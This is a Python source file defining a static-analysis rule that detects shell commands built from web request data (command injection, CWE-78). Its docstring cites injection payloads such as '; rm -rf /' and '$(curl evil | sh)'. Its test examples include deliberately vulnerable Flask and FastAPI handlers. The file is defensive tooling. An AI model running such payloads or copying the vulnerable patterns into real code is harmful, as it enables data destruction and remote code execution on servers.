"""WB221 shell-command-from-request: a shell command carrying request data."""

from __future__ import annotations

import ast
from bisect import bisect_left, bisect_right
from typing import Iterable

from ..model import Category, Finding, Severity
from . import Example, Rule, RuleContext
from ._request_data import RequestData
from ._syntax import (call_qualname, functions, import_aliases, is_handler, is_true, keyword, may_name_one_of, mentions,
                      own_nodes)

# Functions that hand a string to a shell.
SHELL_FUNCTIONS = ("os.system", "os.popen", "os.popen2", "os.popen3", "subprocess.getoutput",
                   "subprocess.getstatusoutput", "commands.getoutput", "os.execl", "os.execlp", "os.spawnl")
# Functions that run a shell only with shell=True.
SUBPROCESS = ("subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
              "subprocess.Popen", "asyncio.create_subprocess_shell")

# The last parts of the names above: a call named otherwise cannot be one of them, unless its
# name was imported under another (``from os import system as run``).
_LAST_PARTS = frozenset(q.rpartition(".")[2] for q in SHELL_FUNCTIONS + SUBPROCESS)


def _shell_call(call: ast.Call, aliases: dict[str, str]) -> str:
    """The qualified name of the function when ``call`` runs a shell with its first argument, else ''."""
    if not call.args or not may_name_one_of(call.func, _LAST_PARTS, aliases):
        return ""
    qual = call_qualname(call, aliases)
    if qual in SHELL_FUNCTIONS or (qual in SUBPROCESS and (is_true(keyword(call, "shell")) or qual.endswith("_shell"))):
        return qual
    return ""


class ShellCommandFromRequest(Rule):
    """Flags a shell command that carries request data.

    ## What it does
    Follows request data inside a function and flags `os.system()`, `os.popen()`,
    `subprocess.getoutput()` and `subprocess.*(..., shell=True)` /
    `asyncio.create_subprocess_shell()` calls whose command carries it. bandit's B602/B604/
    B605 (any shell use) map onto the same category; this rule adds the request-data flow.

    ## Why is this bad?
    `; rm -rf /` or `$(curl evil | sh)` in a field runs on the server.

    ## Example
    ```python
    host = request.args["host"]
    out = subprocess.check_output(f"ping -c 1 {host}", shell=True)
    ```

    ## Use instead
    ```python
    out = subprocess.check_output(["ping", "-c", "1", host])  # no shell; validate host too
    ```
    """

    id = "WB221"
    name = "shell-command-from-request"
    category = Category.INJECTION
    severity = Severity.HIGH
    confidence = Severity.HIGH
    cwe = 78
    fixed_by = None

    VALID = (
        Example(
            "import subprocess\n"
            "from flask import Flask, request\n"
            "app = Flask(__name__)\n"
            "\n"
            "@app.route('/api/ping')\n"
            "def ping():\n"
            "    host = request.args['host']\n"
            "    return subprocess.check_output(['ping', '-c', '1', host]).decode()\n"
        ),
        Example(
            "import os\n"
            "from fastapi import FastAPI\n"
            "app = FastAPI()\n"
            "\n"
            "@app.post('/backup')\n"
            "def backup():\n"
            "    os.system('pg_dump app > /backups/app.sql')\n"
        ),
    )
    INVALID = (
        Example(
            "import os, subprocess\n"
            "from flask import Flask, request\n"
            "app = Flask(__name__)\n"
            "\n"
            "@app.route('/api/ping')\n"
            "def ping():\n"
            "    host = request.args['host']\n"
            "    os.system('ping -c 1 ' + host)\n"
            "    return subprocess.check_output(f'nslookup {host}', shell=True).decode()\n",
            lines=(8, 9),
        ),
        Example(
            "import subprocess\n"
            "from fastapi import FastAPI\n"
            "app = FastAPI()\n"
            "\n"
            "@app.get('/convert')\n"
            "def convert(name: str):\n"
            "    subprocess.run('convert ' + name + ' out.png', shell=True)\n",
            lines=(7,),
        ),
    )

    def check(self, ctx: RuleContext) -> Iterable[Finding]:
        # (words another one contains are left out: "create_subprocess" contains "subprocess")
        if not mentions(ctx, "os.", "subprocess", "popen", "system", "commands", "getoutput"):
            return  # nothing this rule looks for can be in the file
        if ctx.in_test_file:
            return
        aliases = import_aliases(ctx.tree)
        # (the calls that can name one: by their written name, or through an import alias)
        lines = sorted(node.lineno for node in ctx.calls_named(_LAST_PARTS | aliases.keys())
                       if _shell_call(node, aliases))
        if not lines:
            return  # no shell call anywhere in the file
        for fn in functions(ctx.tree):
            end = fn.end_lineno
            if end is not None and bisect_right(lines, end) == bisect_left(lines, fn.lineno):
                continue  # (none in its lines)
            # the shell calls first: most functions make none, and need no request-data analysis
            shells = [(node, qual) for node in own_nodes(fn)
                      if isinstance(node, ast.Call) and (qual := _shell_call(node, aliases))]
            if not shells:
                continue
            data = RequestData.of(ctx, fn, follow_returning=True)
            if not data.tainted and not data.reads_request():
                continue
            for node, qual in shells:
                if data.is_tainted(node.args[0]):
                    yield self.finding(ctx, node.lineno, f"shell command built from request data ({qual})")
